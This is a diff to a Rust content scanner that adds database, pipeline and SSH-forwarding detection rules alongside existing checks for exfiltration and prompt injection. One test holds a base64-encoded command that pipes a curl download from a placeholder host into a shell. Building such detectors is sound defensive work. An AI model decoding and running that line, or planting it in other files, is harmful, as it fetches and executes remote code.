@@ -20,6 +20,7 @@ mod allow;
 mod archives;
 mod clipboard;
 mod credentials;
+mod database;
 mod destructive;
 mod download;
 mod expand;
@@ -30,6 +31,7 @@ mod net;
 mod obfuscation;
 mod pattern;
 mod persistence;
+mod pipelines;
 mod rendered;
 mod tampering;
 mod text;
@@ -180,6 +182,9 @@ const TEXT_RULES: &[fn(&Text, &mut Vec<Finding>)] = &[
     credentials::check_exfiltration,
     credentials::check_password_prompt,
     persistence::check_persistence,
+    persistence::check_ssh_server_forwarded,
+    pipelines::check_pipelines,
+    database::check_database,
     injection::check_instruction_override,
     injection::check_hidden_instructions,
     rendered::check_image_exfiltration,
@@ -426,6 +431,7 @@ fn compile() {
     archives::compile();
     clipboard::compile();
     credentials::compile();
+    database::compile();
     destructive::compile();
     download::compile();
     flow::compile();
@@ -434,6 +440,7 @@ fn compile() {
     net::compile();
     obfuscation::compile();
     persistence::compile();
+    pipelines::compile();
     tampering::compile();
     rendered::compile();
 }
@@ -554,6 +561,10 @@ mod tests {
         assert!(!errors(&format!("motd = hex:{words}\n")));
         let digest = "sha256 = 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n";
         assert!(!errors(digest));
+        // Practice strings in a text file for people are read, not decoded by a program.
+        let sample = "# samples\nY3VybCAtcyBodHRwczovL3RyYWluaW5nLmludmFsaWQvc3RhZ2UyIHwgc2g=\n";
+        assert!(!errors_in("samples/lines.txt", sample));
+        assert!(errors_in("assets/lines.conf", sample));
     }
 
     #[test]
